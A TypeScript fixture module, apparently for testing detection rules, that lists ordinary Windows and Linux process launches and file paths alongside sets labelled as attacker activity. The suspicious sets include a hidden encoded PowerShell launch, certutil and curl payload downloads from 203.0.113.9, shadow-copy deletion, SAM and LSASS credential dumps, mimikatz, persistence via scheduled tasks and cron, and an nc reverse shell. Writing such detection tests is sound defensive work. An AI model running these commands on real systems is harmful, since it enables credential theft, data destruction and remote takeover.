import type { StreamProgram } from './stream-program.js';

/** What Windows starts services with: the parent of what ordinary Windows programs run here. */
export const SERVICES: StreamProgram = { executable: 'C:\\Windows\\System32\\services.exe', args: [] };

/** The first process of a Linux computer. */
export const SYSTEMD: StreamProgram = { executable: '/usr/lib/systemd/systemd', args: [] };

type Programs = readonly [StreamProgram, ...StreamProgram[]];
type Texts = readonly [string, ...string[]];

const run = (executable: string, ...args: readonly string[]): StreamProgram => ({ executable, args });

/** What ordinary Windows computers start. */
export const WINDOWS_PROGRAMS: Programs = [
  run('C:\\Windows\\System32\\svchost.exe', '-k', 'netsvcs', '-p', '-s', 'Schedule'),
  run('C:\\Windows\\System32\\svchost.exe', '-k', 'LocalServiceNetworkRestricted', '-p', '-s', 'EventLog'),
  run('C:\\Windows\\System32\\svchost.exe', '-k', 'wsappx', '-p', '-s', 'ClipSVC'),
  run('C:\\Windows\\System32\\spoolsv.exe'),
  run('C:\\Windows\\System32\\VSSVC.exe'),
  run(
    'C:\\Program Files\\Contoso\\Agent\\contoso-agent.exe',
    '--service',
    '--config',
    'C:\\ProgramData\\Contoso\\agent.ini',
  ),
  run('C:\\Program Files\\Contoso\\Backup\\backup-engine.exe', '--job', '17', '--target', '\\\\nas-01\\backup$\\daily'),
  run('C:\\Program Files\\Contoso\\Ledger\\ledger.exe', '--open', 'D:\\Ledger\\2026\\january.ldg', '--read-only'),
  run(
    'C:\\Program Files (x86)\\Contoso\\Chat\\chat-helper.exe',
    '--type=renderer',
    '--lang=en-GB',
    '--field-trial=7143',
  ),
  run('C:\\Program Files (x86)\\Contoso\\Update\\updater.exe', '/c', '/interval:3600', '/channel:stable'),
];

/** What ordinary Linux computers start. */
export const LINUX_PROGRAMS: Programs = [
  run('/usr/sbin/cron', '-f', '-P'),
  run('/usr/sbin/logrotate', '/etc/logrotate.conf', '--state', '/var/lib/logrotate/status'),
  run('/usr/lib/postgresql/15/bin/postgres', '-D', '/var/lib/postgresql/15/main', '-c', 'config_file=/etc/pg.conf'),
  run('/usr/lib/systemd/systemd-tmpfiles', '--clean'),
  run('/opt/contoso/bin/worker', '--queue', 'mail', '--concurrency', '8', '--log-level', 'warn'),
  run('/opt/contoso/bin/metrics', '--listen', '127.0.0.1:9100', '--interval', '15s'),
  run('/usr/sbin/nginx', '-g', 'daemon off;', '-c', '/etc/nginx/nginx.conf'),
];

/** What attackers start on Windows, and testers of detection rules. */
export const SUSPICIOUS_WINDOWS_PROGRAMS: Programs = [
  run(
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    '-nop',
    '-w',
    'hidden',
    '-enc',
    'SQBFAFgAIAAoAE4AZQB3AC0A',
  ),
  run('C:\\Windows\\System32\\certutil.exe', '-urlcache', '-split', '-f', 'http://203.0.113.9/a.txt', 'a.exe'),
  run('C:\\Windows\\System32\\vssadmin.exe', 'delete', 'shadows', '/all', '/quiet'),
  run('C:\\Windows\\System32\\reg.exe', 'save', 'HKLM\\SAM', 'C:\\Temp\\sam.hiv'),
  run(
    'C:\\Windows\\System32\\rundll32.exe',
    'C:\\Windows\\System32\\comsvcs.dll,MiniDump',
    '624',
    'C:\\Temp\\l.dmp',
    'full',
  ),
  run(
    'C:\\Windows\\System32\\schtasks.exe',
    '/create',
    '/tn',
    'update',
    '/tr',
    'C:\\Users\\Public\\u.exe',
    '/sc',
    'minute',
  ),
  run('C:\\Windows\\System32\\whoami.exe', '/all'),
  run('C:\\Users\\Public\\mimikatz.exe', 'sekurlsa::logonpasswords', 'exit'),
];

/** What attackers start on Linux. */
export const SUSPICIOUS_LINUX_PROGRAMS: Programs = [
  run('/usr/bin/base64', '-d', '/tmp/.cache/p'),
  run('/usr/bin/curl', '-fsSL', 'http://203.0.113.9/x.sh', '-o', '/tmp/x.sh'),
  run('/usr/bin/chattr', '+i', '/etc/ld.so.preload'),
  run('/tmp/.x/kworker', '--donate-level', '1'),
  run('/usr/bin/nc', '-e', '/bin/sh', '203.0.113.9', '4444'),
  run('/usr/bin/crontab', '/tmp/.c'),
];

/** Files that programs on Windows write. */
export const WINDOWS_FILES: Texts = [
  'C:\\Users\\Public\\AppData\\Local\\Temp\\~DF3A5B.tmp',
  'C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\WER8F1A.tmp.xml',
  'D:\\Ledger\\2026\\january.ldg',
  'C:\\ProgramData\\Contoso\\Agent\\spool\\batch-0017.dat',
  'C:\\Windows\\System32\\LogFiles\\WMI\\NetCore.etl',
  'C:\\Users\\Public\\Documents\\notes.docx',
];

/** Files that programs on Linux write. */
export const LINUX_FILES: Texts = [
  '/var/log/app/access.log',
  '/tmp/tmpk3v9x2/part.0001',
  '/var/lib/dpkg/info/openssl.list',
  '/home/user/.cache/mesa_shader_cache/index',
  '/run/systemd/journal/streams/.#9:183720',
];

/** Files that rules watch. */
export const SUSPICIOUS_FILES: { readonly windows: Texts; readonly linux: Texts } = {
  windows: [
    'C:\\Users\\Public\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk',
    'C:\\Users\\Public\\u.exe',
    'C:\\Windows\\Tasks\\update.job',
    'C:\\Temp\\lsass.dmp',
  ],
  linux: ['/etc/cron.d/update', '/etc/ld.so.preload', '/tmp/.x/kworker', '/home/user/.ssh/authorized_keys'],
};
